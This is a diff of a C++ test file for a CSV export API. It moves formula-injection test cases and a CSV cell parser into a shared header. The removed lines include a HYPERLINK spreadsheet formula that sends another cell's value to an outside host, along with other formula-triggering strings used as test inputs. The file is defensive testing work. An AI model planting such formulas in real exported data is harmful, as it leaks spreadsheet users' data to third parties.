@@ -9,47 +9,17 @@
 #include <set>
 
 #include "tests/api/api_fixture.h"
+#include "tests/cli/csv_formula_cases.h"
 
 namespace vafa {
 namespace {
 
 using nlohmann::json;
+using testing::CsvCells;
+using testing::kFormulas;
+using testing::kNumbers;
 using testing_api::ApiTest;
 using testing_api::HttpResult;
-
-// The formulas of the issue, and texts that look alike but are numbers.
-const std::vector<std::string> kFormulas = {
-    "=HYPERLINK(\"http://x/?\"&E2,\"open\")", "+1+2", "@SUM(A1)", "-2+3"};
-const std::vector<std::string> kNumbers = {"-12.50", "+989121234567"};
-
-// The cells of an RFC 4180 file.
-std::vector<std::string> CsvCells(const std::string& csv) {
-  std::vector<std::string> cells;
-  std::string cell;
-  bool quoted = false;
-  for (size_t i = 0; i < csv.size(); ++i) {
-    const char c = csv[i];
-    if (quoted) {
-      if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
-        cell += '"';
-        ++i;
-      } else if (c == '"') {
-        quoted = false;
-      } else {
-        cell += c;
-      }
-    } else if (c == '"') {
-      quoted = true;
-    } else if (c == ',' || c == '\n') {
-      cells.push_back(cell);
-      cell.clear();
-    } else {
-      cell += c;
-    }
-  }
-  if (!cell.empty()) cells.push_back(cell);
-  return cells;
-}
 
 class CsvExportApiTest : public ApiTest {
  protected:
